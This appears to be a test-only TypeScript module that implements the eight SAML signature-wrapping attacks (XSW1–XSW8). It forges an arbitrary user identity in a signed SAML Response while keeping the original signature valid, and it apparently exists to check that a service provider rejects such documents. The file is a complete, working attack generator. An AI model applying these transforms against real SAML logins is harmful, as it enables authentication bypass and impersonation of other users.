/**
 * The signature-wrapping transforms XSW1–XSW8 of a signed SAML Response, as SAML Raider generates
 * them (after Somorovsky et al., "On Breaking SAML", 2012). Every function takes the XML an IdP signed and returns what an attacker
 * would post, so the original signature still verifies cryptographically: only the SP's structure
 * checks (verify and read from the same node) stand between these documents and a forged login.
 * Test-only: nothing in the server imports this file.
 */
import { directChild, must, NS, parts, parseXml, serializeXml, setNameId } from './xml-dom.js';

/** The eight wrapping variants. */
export const XSW_VARIANTS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type XswVariant = (typeof XSW_VARIANTS)[number];

/** XSW1–2 wrap the Response signature; XSW3–8 wrap the Assertion signature. */
export const signatureWrapped = (variant: XswVariant): 'response' | 'assertion' =>
  variant === 'XSW1' || variant === 'XSW2' ? 'response' : 'assertion';

/**
 * A copy of `assertion` claiming `nameId`: a fresh ID unless `sameId`, its signature removed unless
 * `keepSignature` (XSW5, 6 and 8 keep it so the signature sits inside the evil element).
 */
function evilAssertion(
  assertion: Element,
  nameId: string,
  opts: { sameId?: boolean; keepSignature?: boolean } = {},
): Element {
  const evil = assertion.cloneNode(true) as Element;
  if (opts.sameId !== true) evil.setAttribute('ID', '_evil0000000000000000000000000001');
  const sig = directChild(evil, NS.ds, 'Signature');
  if (sig !== undefined && opts.keepSignature !== true) evil.removeChild(sig);
  setNameId(evil, nameId);
  return evil;
}

function insertAfter(parent: Element, node: Node, ref: Node): void {
  parent.insertBefore(node, ref.nextSibling);
}

/**
 * Applies one XSW variant to `signedXml`, making the document claim `evilNameId`. XSW1–2 need a signed
 * Response, XSW3–8 a signed Assertion.
 */
export function applyXsw(signedXml: string, variant: XswVariant, evilNameId: string): string {
  const doc = parseXml(signedXml);
  const { response, assertion, responseSig, assertionSig } = parts(doc);
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // A forged Response (new ID, evil identity) becomes the root; the original signed Response
      // rides along inside (XSW1: enveloped by its own Signature) or next to it (XSW2: detached).
      const sig = must(responseSig, 'Response signature');
      const evil = response.cloneNode(true) as Element;
      evil.setAttribute('ID', '_evil0000000000000000000000000000');
      evil.removeChild(must(directChild(evil, NS.ds, 'Signature'), 'Signature'));
      setNameId(must(directChild(evil, NS.saml, 'Assertion'), 'Assertion'), evilNameId);
      response.removeChild(sig);
      doc.replaceChild(evil, response);
      insertAfter(evil, sig, must(directChild(evil, NS.saml, 'Issuer'), 'Issuer'));
      if (variant === 'XSW1') sig.appendChild(response);
      else insertAfter(evil, response, sig);
      break;
    }
    case 'XSW3': {
      // A second, unsigned Assertion before the signed one: "the first Assertion" is the evil one.
      must(assertionSig, 'Assertion signature');
      response.insertBefore(evilAssertion(assertion, evilNameId), assertion);
      break;
    }
    case 'XSW4': {
      // The signed Assertion nested inside the evil one.
      must(assertionSig, 'Assertion signature');
      const evil = evilAssertion(assertion, evilNameId);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5':
    case 'XSW6': {
      // The evil Assertion carries the original Signature; the original Assertion (whose ID the
      // Reference names) is appended to the Response (XSW5) or inside that Signature (XSW6).
      const sig = must(assertionSig, 'Assertion signature');
      const evil = evilAssertion(assertion, evilNameId, { keepSignature: true });
      response.replaceChild(evil, assertion);
      assertion.removeChild(sig);
      if (variant === 'XSW5') response.appendChild(assertion);
      else must(directChild(evil, NS.ds, 'Signature'), 'Signature').appendChild(assertion);
      break;
    }
    case 'XSW7': {
      // The signed Assertion hidden in samlp:Extensions (lax schema); an unsigned twin with the same
      // ID in its place.
      must(assertionSig, 'Assertion signature');
      const evil = evilAssertion(assertion, evilNameId, { sameId: true });
      response.replaceChild(evil, assertion);
      const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      extensions.appendChild(assertion);
      insertAfter(response, extensions, must(directChild(response, NS.saml, 'Issuer'), 'Issuer'));
      break;
    }
    case 'XSW8': {
      // The evil Assertion keeps the Signature; the original (unsigned now) sits in a ds:Object
      // inside it, where the schema allows any content.
      const sig = must(assertionSig, 'Assertion signature');
      const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: true });
      response.replaceChild(evil, assertion);
      assertion.removeChild(sig);
      const object = doc.createElementNS(NS.ds, 'ds:Object');
      object.appendChild(assertion);
      must(directChild(evil, NS.ds, 'Signature'), 'Signature').appendChild(object);
      break;
    }
  }
  return serializeXml(doc);
}
